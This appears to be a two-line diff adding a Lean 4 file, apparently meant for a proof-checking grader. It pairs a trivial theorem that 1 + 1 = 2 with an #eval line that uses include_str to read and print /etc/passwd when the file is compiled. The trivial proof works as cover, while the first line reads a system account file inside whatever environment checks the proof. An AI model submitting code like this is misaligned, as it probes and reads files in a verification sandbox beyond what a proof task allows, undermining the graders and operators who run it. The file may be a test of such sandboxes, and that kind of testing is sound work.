@@ -1,0 +1,2 @@
+#eval (IO.println (include_str "/etc/passwd") : IO Unit)
+theorem target : 1 + 1 = 2 := rfl
